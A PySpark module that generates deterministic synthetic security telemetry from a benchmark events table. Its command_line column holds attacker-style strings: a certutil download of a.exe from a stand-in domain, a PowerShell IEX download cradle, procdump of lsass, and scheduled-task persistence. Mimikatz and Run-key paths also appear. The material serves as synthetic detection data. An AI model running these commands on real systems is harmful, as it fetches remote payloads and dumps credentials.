"""Telemetry as a deterministic view of the driver's ``events`` table (integer arithmetic only).

Blocks of 64 events share a host and two users, so that correlation stays local and its volume
grows with the input.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession

COLUMNS = (
    "event_id", "timestamp", "sec", "event_type", "host", "user", "source_ip", "destination_ip", "destination_port", "protocol",
    "process_name", "process_id", "parent_process", "parent_process_id", "command_line", "file_path", "domain", "severity", "note",
    "scenario_id",
)

_BASE = r"""
SELECT event_id AS n, event_id div 64 AS blk, user_id % 2 AS u, CAST(get_json_object(props, '$.k') AS INT) AS k, event_type AS raw_type FROM {events}
"""
_TYPED = r"""
SELECT *, CASE raw_type WHEN 'error' THEN 'LOGIN_ATTEMPT' WHEN 'signup' THEN IF(k < 70, 'LOGIN_SUCCESS', 'PRIVILEGE_CHANGE')
  WHEN 'click' THEN 'PROCESS_CREATED' WHEN 'view' THEN IF(k < 80, 'NETWORK_CONNECTION', 'DNS_QUERY')
  ELSE CASE WHEN k < 40 THEN 'FILE_CREATED' WHEN k < 65 THEN 'REGISTRY_MODIFIED' WHEN k < 85 THEN 'SERVICE_CREATED' ELSE 'REMOTE_EXECUTION' END END AS event_type
FROM base
"""
_TELEMETRY = r"""
SELECT concat('EVT-', lpad(CAST(n AS STRING), 12, '0')) AS event_id, timestamp_seconds(1704067200 + 7 * n) AS timestamp,
  1704067200 + 7 * n AS sec, event_type,
  CASE WHEN n % 50 <> 7 THEN concat('host-', blk % 4096) END AS host, concat('user-', blk, '-', u) AS user,
  CASE WHEN event_type LIKE 'LOGIN%' THEN concat('10.', (blk div 250) % 250, '.', blk % 250, '.', u + 1) END AS source_ip,
  CASE WHEN event_type = 'NETWORK_CONNECTION' THEN CASE WHEN k < 2 AND blk % 16 = 0 THEN '185.220.101.45'
    WHEN k % 5 = 0 THEN concat('10.', blk % 250, '.0.', k) ELSE concat('8.8.', blk % 250, '.', k) END END AS destination_ip,
  CASE WHEN event_type = 'NETWORK_CONNECTION' THEN element_at(array(443, 80, 4444, 8080, 22, 53), k % 6 + 1) END AS destination_port,
  CASE WHEN event_type = 'NETWORK_CONNECTION' THEN 'tcp' WHEN event_type = 'REMOTE_EXECUTION' AND k % 4 = 0 THEN 'http' END AS protocol,
  CASE WHEN n % 50 <> 7 AND event_type NOT LIKE 'LOGIN%' THEN element_at(array('powershell.exe', 'cmd.exe', 'explorer.exe', 'rundll32.exe',
    'certutil.exe', 'chrome.exe', 'mimikatz.exe', 'wscript.exe'), k % 8 + 1) END AS process_name,
  CASE WHEN event_type NOT LIKE 'LOGIN%' THEN k END AS process_id,
  CASE WHEN n % 50 <> 7 AND event_type IN ('PROCESS_CREATED', 'FILE_CREATED') THEN element_at(array('winword.exe', 'explorer.exe',
    'services.exe', 'powershell.exe', 'outlook.exe'), CAST((k div 8) % 5 + 1 AS INT)) END AS parent_process,
  CASE WHEN event_type = 'PROCESS_CREATED' THEN (k * 7) % 100 END AS parent_process_id,
  CASE WHEN event_type IN ('PROCESS_CREATED', 'REMOTE_EXECUTION', 'REGISTRY_MODIFIED') THEN element_at(array(
    'powershell.exe -enc SQBFAFgA', 'cmd.exe /c whoami', 'Get-Service | Out-GridView', 'rundll32.exe javascript:alert',
    concat('certutil.exe -urlcache -f http://h', blk, '.update-cdn-live.net/a.exe'), 'IEX (New-Object Net.WebClient).DownloadString',
    'procdump.exe -ma lsass.exe', 'schtasks /create /tn updater', 'wscript.exe C:\\Users\\Public\\run.js', NULL), k % 10 + 1) END AS command_line,
  CASE WHEN event_type = 'FILE_CREATED' THEN concat('C:\\Users\\u', blk, IF(k < 4, '\\Startup\\', '\\AppData\\Local\\Temp\\'), 'f', k % 7,
      element_at(array('.exe', '.txt', '.ps1', '.docx'), k % 4 + 1))
    WHEN event_type = 'REGISTRY_MODIFIED' THEN IF(k % 2 = 0, concat('HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u', blk), concat('HKLM\\Software\\Vendor\\u', blk))
    WHEN event_type = 'SERVICE_CREATED' THEN IF(k % 2 = 0, concat('C:\\ProgramData\\svc', blk, '.exe'), concat('C:\\Windows\\System32\\svc', blk, '.sys')) END AS file_path,
  CASE WHEN event_type = 'DNS_QUERY' THEN CASE WHEN k % 4 = 0 THEN concat('h', blk, '.update-cdn-live.net')
    WHEN k % 4 = 1 THEN concat(repeat('a', 45), blk, '.example.com') ELSE concat('www.h', blk, '.example.com') END END AS domain,
  CASE event_type WHEN 'LOGIN_ATTEMPT' THEN 'LOW' WHEN 'PRIVILEGE_CHANGE' THEN 'MEDIUM' WHEN 'SERVICE_CREATED' THEN 'MEDIUM'
    WHEN 'REMOTE_EXECUTION' THEN 'HIGH' ELSE 'INFO' END AS severity,
  CASE WHEN event_type = 'PRIVILEGE_CHANGE' THEN element_at(array('fodhelper', 'SeDebugPrivilege', 'logon', 'logon', 'logon'), k % 5 + 1)
    WHEN event_type = 'REMOTE_EXECUTION' THEN element_at(array('psexec', 'wmi', 'winrm'), k % 3 + 1) END AS note,
  concat('SCN-', blk % 6) AS scenario_id
FROM typed
"""


def telemetry(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Canonical events (``COLUMNS``) of the driver's ``events`` table."""
    base = spark.sql(_BASE.format(events="{e}"), e=spark.read.parquet(f"{sf_dir}/events.parquet"))
    typed = spark.sql(_TYPED.replace("FROM base", "FROM {b}"), b=base)
    return spark.sql(_TELEMETRY.replace("FROM typed", "FROM {t}"), t=typed)
